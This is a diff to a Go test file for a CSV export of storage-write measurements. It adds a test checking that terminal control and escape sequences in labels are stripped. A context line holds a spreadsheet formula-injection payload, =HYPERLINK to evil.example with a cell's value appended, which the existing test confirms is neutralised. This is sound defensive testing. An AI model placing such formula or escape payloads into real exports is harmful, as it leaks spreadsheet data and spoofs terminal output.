@@ -35,3 +35,19 @@ func TestLabelsCannotAttack(t *testing.T) {
 	require.Equal(t, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, rows[1][1])
 	require.Equal(t, "2.00000", rows[1][5], "figures are not touched")
 }
+
+// TestCSVDropsControls: the CSV kept ESC and the other control bytes of a
+// label (a spreadsheet or `cat` of the file shows them): its text cells
+// get what the text output gets, newline and tab only.
+func TestCSVDropsControls(t *testing.T) {
+	runs := []Run{{ID: "b\x1b[2J1", Scenario: "x\x1b]0;pwned\x07y\x9b"}, {ID: "c1", Scenario: "ok"}}
+	tables := [][]Hour{{{Hour: 1, Missing: "gone\x1b[31m"}}, {{Hour: 1, NANDBytes: MiB, HostBytes: MiB}}}
+	var c bytes.Buffer
+	require.NoError(t, WriteCSV(&c, runs, tables))
+	require.NotContains(t, c.String(), "\x1b")
+	require.NotContains(t, c.String(), "\x07")
+	rows, err := csv.NewReader(&c).ReadAll()
+	require.NoError(t, err)
+	require.Equal(t, []string{"b[2J1", "x]0;pwnedy\uFFFD"}, rows[1][:2])
+	require.Equal(t, "gone[31m", rows[1][6])
+}
